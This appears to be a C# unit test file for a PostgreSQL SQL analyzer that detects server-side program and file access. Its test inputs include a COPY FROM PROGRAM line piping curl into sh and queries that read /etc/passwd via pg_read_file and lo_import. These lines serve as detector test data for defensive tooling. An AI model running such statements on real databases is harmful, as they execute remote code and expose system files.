using System.Threading.Tasks;
using PgGuard.Analyzers.Diagnostics;

namespace PgGuard.Analyzers.Tests.Sql
{
    public class ServerProgramsOrFilesTests
    {
        private const string Id = DiagnosticIds.ServerProgramsOrFiles;

        [Theory]
        [InlineData("COPY t [|FROM PROGRAM 'curl http://x | sh'|]")]
        [InlineData("COPY (SELECT 1) [|TO PROGRAM 'gzip > /tmp/x.gz'|]")]
        [InlineData("copy t (a, \"program\") [|from program $$id$$|] with (format csv)")]
        [InlineData("COPY t [|FROM '/etc/passwd'|]")]
        [InlineData("COPY public.t (a, b) [|TO '/tmp/out.csv'|] WITH (FORMAT csv)")]
        [InlineData("COPY BINARY t [|FROM E'/tmp/x'|]")]
        [InlineData("SELECT [|pg_read_file('/etc/passwd')|]")]
        [InlineData("SELECT [|pg_catalog.pg_read_binary_file('x', 0, 10)|]")]
        [InlineData("SELECT * FROM [|PG_LS_DIR('.')|] AS f")]
        [InlineData("SELECT ([|pg_stat_file('postgresql.conf')|]).size")]
        [InlineData("SELECT [|\"pg_read_file\"('/x')|]")]
        [InlineData("SELECT [|lo_import('/etc/passwd')|]")]
        [InlineData("SELECT [|lo_import('/etc/passwd'::text, 4242)|]")]
        [InlineData("SELECT [|lo_export(16409, '/tmp/x')|]")]
        [InlineData("GRANT EXECUTE ON FUNCTION [|pg_read_file(text)|] TO app")]
        [InlineData("DO $$ BEGIN PERFORM [|pg_read_file('/x')|]; END $$")]
        public void Reported(string sql) => SqlAssert.Reports(Id, sql);

        [Theory]
        [InlineData("COPY t FROM STDIN")]
        [InlineData("COPY t (program) TO STDOUT")]
        [InlineData("COPY (SELECT program FROM t) TO STDOUT WITH (FORMAT csv, HEADER)")]
        [InlineData("COPY t FROM STDIN WITH (FORMAT binary)")]
        [InlineData("\\copy t from '/tmp/x'")]
        [InlineData("SELECT pg_read_file FROM t")]
        [InlineData("SELECT myschema.pg_read_file('/x')")]
        [InlineData("REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM PUBLIC")]
        [InlineData("DROP FUNCTION pg_ls_dir(text)")]
        [InlineData("SELECT lo_import($1)")]
        [InlineData("SELECT lo_export(oid, @path) FROM t")]
        [InlineData("SELECT lo_import(p) FROM t")]
        [InlineData("SELECT lo_export('/tmp/x', 1)")]
        [InlineData("SELECT 'pg_read_file(''/x'')'")]
        [InlineData("CREATE TABLE t (program text)")]
        [InlineData("-- COPY t FROM PROGRAM 'x'")]
        public void Not_reported(string sql) => SqlAssert.ReportsNothing(Id, sql);

        [Fact]
        public void Message_names_the_command_and_what_it_does()
        {
            Assert.Equal(
                "'COPY … FROM PROGRAM' runs a shell command on the database server; keep file and program access out of application SQL",
                SqlAssert.Message(Id, "COPY t FROM PROGRAM 'x'"));
            Assert.Equal(
                "'COPY … TO '…'' writes a file on the database server; keep file and program access out of application SQL",
                SqlAssert.Message(Id, "COPY t TO '/tmp/secret-name'"));
            Assert.Equal(
                "'pg_ls_dir' lists a directory on the database server; keep file and program access out of application SQL",
                SqlAssert.Message(Id, "SELECT pg_ls_dir('.')"));
        }

        [Fact]
        public Task Reported_in_sql_files() => SqlVerifier.VerifySqlFileAsync(
            "COPY t (program) FROM STDIN;\nCOPY t {|#0:TO PROGRAM 'gzip > /tmp/t.gz'|};\n",
            SqlVerifier.Diagnostic(Descriptors.ServerProgramsOrFiles).WithLocation(0).WithArguments("COPY … TO PROGRAM", "runs a shell command"));

        [Fact]
        public Task Reported_in_every_csharp_sink() =>
            SqlVerifier.VerifyCSharpAsync(SqlCode.EverySink("SELECT {|PG0102:pg_read_file('/etc/passwd')|}"));

        [Fact]
        public Task Not_reported_in_any_csharp_sink() =>
            SqlVerifier.VerifyCSharpAsync(SqlCode.EverySink("COPY t (program) FROM STDIN (FORMAT binary)"));
    }
}
